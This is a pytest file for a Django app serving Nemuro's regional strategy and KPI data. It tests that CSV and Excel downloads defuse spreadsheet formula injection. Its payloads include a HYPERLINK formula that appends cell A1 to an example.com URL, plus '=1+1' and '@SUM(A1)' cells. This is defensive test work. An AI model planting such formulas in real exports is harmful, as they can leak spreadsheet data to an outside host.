"""Text that starts like a formula (= + - @) opens as text in every spreadsheet download staff and
citizens take to Excel: the project list (CSV, XLSX), the indicator CSV, the entry sheet and
資料-1. Numbers, negative ones included, stay numbers."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from kpi.models import Achievement
from strategy.cells import csv_text, keep_text
from strategy.models import Project

SLUG = "nemuro-sousei-2015"


FORMULA = '=HYPERLINK("http://example.com/?"&A1,"詳細")'


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+81-153-23-6111", "'+81-153-23-6111"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-1.5", "-1.5"),
        ("-1,234", "-1,234"),
        ("H25 数値", "H25 数値"),
        (12, 12),
    ],
)
def test_a_csv_cell(typed, written):
    assert csv_text(typed) == written


def test_a_workbook_keeps_typed_text_as_text():
    book = openpyxl.Workbook()
    book.active["A1"] = FORMULA
    assert book.active["A1"].data_type == "f"
    keep_text(book)
    buffer = io.BytesIO()
    book.save(buffer)
    cell = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active["A1"]
    assert (cell.value, cell.data_type) == (FORMULA, "s")


def test_the_project_list_downloads(client, nemuro):
    project = Project.objects.filter(strategy=nemuro).order_by("pk").first()
    Project.objects.filter(pk=project.pk).update(name=FORMULA)
    url = reverse("strategy:projects", kwargs={"slug": SLUG})
    text = client.get(url, {"_export": "csv"}).content.decode("utf-8-sig")
    assert "'" + FORMULA in [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    book = openpyxl.load_workbook(io.BytesIO(client.get(url, {"_export": "xlsx"}).content))
    cells = [c for row in book.active.iter_rows() for c in row if c.value == FORMULA]
    assert cells and all(c.data_type == "s" for c in cells)


def test_the_indicator_csv(client, nemuro):
    # H28's 33.1億円 is stored on the indicator's predecessor (3(イ)② before the 2017 revision)
    assert Achievement.objects.filter(fiscal_year__year=2016, value="33.1").update(note="=1+1")
    url = reverse("kpi:indicator_csv", kwargs={"slug": SLUG, "code": "3ウ①-1"})
    rows = list(csv.DictReader(io.StringIO(client.get(url).content.decode("utf-8-sig"))))
    assert "'=1+1" in rows[-1].values()


def test_the_entry_sheet_and_shiryo1(as_user, nemuro, secretariat):
    assert Achievement.objects.filter(indicator__code="G1-1", fiscal_year__year=2016).update(
        note=FORMULA
    )
    client = as_user(secretariat)
    for url in (
        reverse("staff:entry_sheet", kwargs={"slug": SLUG, "year": 2016}),
        reverse("verification:shiryo1", kwargs={"slug": SLUG, "year": 2016}),
    ):
        book = openpyxl.load_workbook(io.BytesIO(client.get(url).content))
        cells = [c for s in book.worksheets for r in s.iter_rows() for c in r]
        assert not [c.coordinate for c in cells if c.data_type == "f"], url
